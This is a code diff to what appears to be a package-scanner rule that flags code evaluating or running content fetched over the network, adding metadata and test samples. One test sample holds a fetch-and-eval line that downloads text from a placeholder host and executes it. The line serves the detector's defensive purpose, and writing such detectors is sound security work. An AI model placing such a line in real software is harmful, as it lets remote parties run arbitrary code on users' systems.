@@ -1,4 +1,3 @@
-import { codeSightings } from '../traces';
 import type { Rule } from '../rule';
 
 export const codeRemoteCode: Rule = {
@@ -7,7 +6,32 @@ export const codeRemoteCode: Rule = {
   kind: 'code',
   severity: 'high',
   verdict: 'suspicious',
+  tactic: 'execution',
+  capabilities: ['network', 'subprocess', 'dynamic-code'],
+  languages: ['javascript', 'python'],
   summary: 'What comes over the network is evaluated or run.',
-  judge: (facts) =>
-    codeSightings(facts, 'evaluates or runs what comes over the network', 'remote-code', 'remote-shell'),
+  message: 'evaluates or runs what comes over the network',
+  pattern: { where: 'code', any: ['remote-code', 'remote-shell'] },
+  samples: {
+    hits: [
+      {
+        what: 'fetched code',
+        format: 'tarball',
+        files: { 'index.js': 'fetch("https://a.invalid").then((r) => r.text()).then((t) => eval(t));' },
+        verdict: 'suspicious',
+      },
+    ],
+    ignores: [
+      {
+        what: 'fetched data',
+        format: 'tarball',
+        files: {
+          'index.js':
+            'module.exports = () => fetch("https://a.invalid").then((r) => r.json()).then((t) => t.version);',
+        },
+        why: 'What comes is read, and not run.',
+        verdict: 'clean',
+      },
+    ],
+  },
 };
